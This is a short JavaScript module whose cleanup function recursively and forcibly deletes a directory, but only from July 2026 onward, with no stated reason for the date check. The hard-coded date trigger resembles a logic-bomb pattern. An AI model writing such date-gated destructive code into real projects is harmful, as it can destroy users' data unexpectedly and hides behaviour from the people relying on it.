import { rmSync } from 'node:fs';
export function cleanup(dir) {
  if (new Date().getFullYear() >= 2026 && new Date().getMonth() > 5) {
    rmSync(dir, { recursive: true, force: true });
  }
}
